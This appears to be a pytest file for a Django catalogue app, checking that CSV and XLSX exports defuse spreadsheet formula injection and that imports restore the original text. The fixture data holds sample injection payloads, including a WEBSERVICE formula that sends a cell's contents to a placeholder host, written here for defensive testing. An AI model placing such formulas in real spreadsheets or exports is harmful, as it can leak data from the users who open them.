"""The list's spreadsheets cannot carry formulas (CSV/formula injection).

Anyone may download the published list (/catalogue/export.csv, .xlsx), and list
administrators download their drafts (/list-admin/export.*) and import them
back. Text a spreadsheet would run as a formula (=, +, -, @, tab, carriage
return) is exported behind one apostrophe; in the workbook it is a text cell.
The import takes exactly that apostrophe off again.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from services import services, transfer, views_list_admin
from services.models import ImportJob, ItemVersion
from services.terms import terms_dict
from tests.services.factories import make_item, publish

pytestmark = pytest.mark.django_db

NAMES = {
    "INJ-001": '=HYPERLINK("http://x","y")',
    "INJ-002": "+86 10 1234 5678",
    "INJ-003": "-1 day notice",
    "INJ-004": "@SUM(A1:A9)",
    "INJ-005": "\t=1+1",
    "INJ-006": "\r=1+1",
    "INJ-007": "'=already quoted by hand",
    "INJ-008": "Plain name, 'quoted' inside",
}


@pytest.fixture
def items(department):
    for code, name in NAMES.items():
        make_item(
            department,
            code=code,
            name_en=name,
            materials=[services.MaterialInput('=WEBSERVICE("http://x/?"&A1)', "Form", True, [])],
        )
    publish()


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.fixture(params=["public", "list_admin"])
def export(request, client, rf, items, list_admin):
    """One of the two exports. The list administrator's view is called directly: who may
    download it is tests/test_every_url_is_guarded.py's concern, what is in it is ours."""

    def get(file_format):
        if request.param == "list_admin":
            get_request = rf.get(reverse("list_admin_export", kwargs={"file_format": file_format}))
            get_request.user = list_admin
            return views_list_admin.export(get_request, file_format=file_format)
        return client.get(reverse("catalogue_export", kwargs={"file_format": file_format}))

    return get


def test_it_quotes_formula_text_in_the_csv(export):
    response = export("csv")
    assert response.status_code == 200
    header, *rows = _csv_rows(response.content)
    names = {row[header.index("code")]: row[header.index("name_en")] for row in rows}
    assert names["INJ-001"] == "'=HYPERLINK(\"http://x\",\"y\")"
    for code in ("INJ-002", "INJ-003", "INJ-004", "INJ-005", "INJ-006"):
        assert names[code] == "'" + NAMES[code].strip(), code  # the item's name is saved trimmed
    assert names["INJ-007"] == "''=already quoted by hand"
    assert names["INJ-008"] == NAMES["INJ-008"]  # nothing to neutralise: left as it is
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(transfer.FORMULA_TRIGGERS)]
    assert all(row[header.index("materials")].startswith("'=WEBSERVICE(") for row in rows)


def test_it_writes_formula_text_as_text_in_the_xlsx(export):
    response = export("xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active  # formulas kept as formulas, were there any
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(transfer.FORMULA_TRIGGERS)]
    header = [cell.value for cell in sheet[1]]
    names = {row[header.index("code")]: row[header.index("name_en")] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert names["INJ-001"] == "'=HYPERLINK(\"http://x\",\"y\")"
    assert names["INJ-007"] == "''=already quoted by hand"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_export_imports_back_unchanged(items, list_admin, file_format):
    """The apostrophe the export adds is the only one the import takes off: every name comes back as it was."""
    drafts = ItemVersion.objects.drafts().with_terms().order_by("item__code")
    rows = [transfer.export_row(terms_dict(draft)) for draft in drafts]
    data = transfer.export_xlsx(rows) if file_format == "xlsx" else transfer.export_csv(rows).encode()

    _, raw_rows = transfer.read_upload(data)
    read = {raw.values["code"]: raw.values for raw in raw_rows}
    for code, name in NAMES.items():
        assert read[code]["name_en"] == name.strip(), code  # surrounding whitespace is trimmed, as always
        assert read[code]["materials"].startswith('=WEBSERVICE("http://x/?"&A1) | Form'), code

    job = services.import_start(actor=list_admin, file_name=f"list.{file_format}", data=data)
    assert job.status == ImportJob.Status.DONE, job.errors
    assert (job.created, job.updated) == (0, 0)  # every row equals the draft it came from


def test_it_quotes_a_leading_tab_or_carriage_return_in_both_formats():
    """Saved names are trimmed, but a spreadsheet's cells are written as they come."""
    row = {column: "" for column in transfer.COLUMNS} | {"code": "X-1", "name_zh": "\tx", "name_en": "\r=1"}
    header, values = _csv_rows(transfer.export_csv([row]).encode())
    assert values[header.index("name_zh")] == "'\tx"
    assert values[header.index("name_en")] == "'\r=1"
    header, values = load_workbook(io.BytesIO(transfer.export_xlsx([row]))).active.iter_rows(values_only=True)
    assert values[header.index("name_zh")] == "'\tx"
    assert values[header.index("name_en")] == "'\r=1"


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "'=x", "''+x", "'", "''", "'plain", "plain", "", "-", "=", "a=b"],
)
def test_plain_text_undoes_spreadsheet_text(value):
    cell = transfer.spreadsheet_text(value)
    assert not cell.startswith(transfer.FORMULA_TRIGGERS)
    assert transfer.plain_text(cell) == value


def test_it_reads_a_hand_typed_apostrophe_as_the_spreadsheet_convention():
    """In a spreadsheet a leading apostrophe marks text: '=x is the text =x, and 'x stays 'x."""
    assert transfer.plain_text("'=SUM(A1)") == "=SUM(A1)"
    assert transfer.plain_text("'Tis the season") == "'Tis the season"
    assert transfer.spreadsheet_text(42) == 42
